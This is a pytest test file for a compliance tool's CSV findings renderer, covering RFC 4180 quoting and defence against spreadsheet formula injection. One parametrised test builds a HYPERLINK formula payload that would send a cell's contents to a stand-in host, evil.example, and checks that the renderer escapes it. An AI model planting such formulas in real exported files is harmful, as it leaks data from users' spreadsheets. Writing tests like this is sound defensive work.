"""CSV: one row per finding, RFC 4180 quoting, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from collections import Counter
from dataclasses import replace

import pytest

from aslcheck.inventories.snapshot import Resource
from aslcheck.reports.model import RunResult
from aslcheck.reports.render import RENDERERS
from aslcheck.reports.render.csv_ import COLUMNS, CsvRenderer, safe_cell
from tests.reports.conftest import WEIGHTS, RunFactory, bucket, snapshot_of


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_registered_one_row_per_finding_and_no_control_lost(run: RunResult) -> None:
    assert RENDERERS["csv"] is CsvRenderer and CsvRenderer.filename == "findings.csv"
    data = CsvRenderer().render(run)
    assert data.startswith(",".join(COLUMNS).encode() + b"\r\n")
    rows = _rows(data)
    findings = sum(len(o.findings) for r in run.results for o in r.checks)
    assert Counter(r["row"] for r in rows)["finding"] == findings
    errors = sum(len(o.errors) for r in run.results for o in r.checks)
    assert Counter(r["row"] for r in rows)["collection_error"] == errors > 0
    assert {r["control_id"] for r in rows} == {r.control.id for r in run.results}  # manual ones too
    statuses = {r["control_id"]: r["control_status"] for r in rows}
    assert statuses == {r.control.id: r.status.value for r in run.results}
    manual = [r for r in rows if r["control_id"] == "R3-PR-1"]
    assert [r["row"] for r in manual] == ["control"] and "no human attestation" in manual[0]["reason"]
    waived = [r for r in rows if r["control_id"] == "R2-LM-1" and r["finding_status"] == "fail"]
    assert [r["waived"] for r in waived] == ["true"]


def test_rfc4180_round_trip_of_quotes_commas_and_newlines(make_run: RunFactory) -> None:
    nasty = 'line one\r\nline "two", with, commas'
    snap = snapshot_of(bucket(nasty, encryption={"algorithm": nasty, "key_manager": "CUSTOMER"}))
    data = CsvRenderer().render(make_run(snap))
    rows = _rows(data)
    kms = next(r for r in rows if r["check"] == "rpt.s3.kms" and r["finding_status"] == "fail")
    assert kms["resource"] == f"arn:aws:s3:::{nasty}"  # raw CR LF, quote and commas survive
    assert b'""two""' in data  # quotes doubled inside a quoted field
    reader = csv.reader(io.StringIO(data.decode(), newline=""))
    assert all(len(row) == len(COLUMNS) for row in reader)


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_injection_is_neutralised_in_every_cell(make_run: RunFactory, lead: str) -> None:
    payload = f"{lead}HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"
    res = Resource(kind="aws.s3.bucket", id=payload, source="aws",
                   attributes={"encryption": {"algorithm": payload, "key_manager": "CUSTOMER"}, "versioning": payload,
                               "logging": {"enabled": True}, "public_access_block": True},
                   tags=dict(WEIGHTS), account="111122223333", region="us-east-1")
    data = CsvRenderer().render(make_run(snapshot_of(res)))
    cells = [cell for row in csv.reader(io.StringIO(data.decode(), newline="")) for cell in row]
    assert any(cell == "'" + payload for cell in cells)  # the resource column, escaped
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_safe_cell_leaves_ordinary_values_alone() -> None:
    assert safe_cell("arn:aws:s3:::weights") == "arn:aws:s3:::weights"
    assert safe_cell(3) == "3" and safe_cell(None) == ""
    assert safe_cell("-1") == "'-1" and safe_cell("@x") == "'@x"


def test_selection_and_severity_columns(run: RunResult) -> None:
    rows = _rows(CsvRenderer().render(replace(run, selection={"filtered": True})))
    assert {r["severity"] for r in rows} == {"medium"}  # the test catalog declares none
